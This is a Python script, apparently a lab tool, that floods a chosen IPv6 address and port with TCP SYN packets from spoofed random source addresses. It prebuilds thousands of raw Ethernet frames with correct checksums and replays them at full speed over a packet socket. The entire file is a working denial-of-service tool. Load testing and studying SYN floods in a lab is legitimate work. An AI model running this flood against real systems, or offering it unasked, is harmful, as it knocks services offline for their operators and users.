#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A SYN flood over IPv6 from random sources, for the lab (hping3 speaks IPv4 only).

usage: lab_flood6.py [--seconds N] [--frames N] [--rate N] DEVICE ADDRESS PORT

Sends ready-made Ethernet frames, so that a single process is fast: some thousand different ones
are built first, each with its own source address, port and sequence number and a right checksum,
and sent round and round until the time is over. It has to run on the subnet of ADDRESS.
"""
import argparse
import os
import re
import socket
import struct
import subprocess
import sys
import time

# Off the lab's own subnet (2001:db8::/64), within the documentation prefix (RFC 3849).
SOURCES = socket.inet_pton(socket.AF_INET6, "2001:db8:f00d::")[:6]


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(src_mac, dst_mac, dst, port):
    src = SOURCES + os.urandom(10)
    sport, seq = struct.unpack("!HI", os.urandom(6))
    options = struct.pack("!BBH", 2, 4, 1440) + b"\x04\x02\x01\x01"  # MSS, SACK permitted
    tcp = struct.pack("!HHIIBBHHH", sport or 1, port, seq, 0, 7 << 4, 0x02, 64800, 0, 0) + options
    pseudo = src + dst + struct.pack("!II", len(tcp), socket.IPPROTO_TCP)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + src + dst
    return dst_mac + src_mac + b"\x86\xdd" + ip + tcp


def neighbour(device, address):
    """The link-layer address of ADDRESS, as the kernel has it after a ping."""
    subprocess.run(["ping", "-c", "1", "-W", "2", address], stdout=subprocess.DEVNULL, check=False)
    text = subprocess.run(["ip", "-6", "neighbour", "show", address, "dev", device],
                          capture_output=True, text=True, check=True).stdout
    found = re.search(r"lladdr (\S+)", text)
    if not found:
        sys.exit("lab_flood6: %s does not answer on %s" % (address, device))
    return bytes.fromhex(found[1].replace(":", ""))


def main():
    parser = argparse.ArgumentParser(description="SYN flood over IPv6 from random sources")
    parser.add_argument("--seconds", type=float, default=10, help="stop after (default 10)")
    parser.add_argument("--frames", type=int, default=8192, help="different SYNs (default 8192)")
    parser.add_argument("--rate", type=int, help="SYNs a second (default: all that it can)")
    parser.add_argument("device")
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    args = parser.parse_args()

    end = time.monotonic() + args.seconds
    dst_mac = neighbour(args.device, args.address)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((args.device, 0))
    src_mac = out.getsockname()[4]
    dst = socket.inet_pton(socket.AF_INET6, args.address)
    frames = [frame(src_mac, dst_mac, dst, args.port) for _ in range(args.frames)]
    sent = failed = 0
    begun = time.monotonic()
    while time.monotonic() < end:
        for f in frames:
            while args.rate and sent + failed >= (time.monotonic() - begun) * args.rate:
                time.sleep(0.001)
            try:
                out.send(f)
                sent += 1
            except OSError:  # the device's queue is full
                failed += 1
                if failed > 1_000_000:
                    sys.exit("lab_flood6: the device does not take frames")
    print("sent %d SYNs" % sent)


if __name__ == "__main__":
    main()
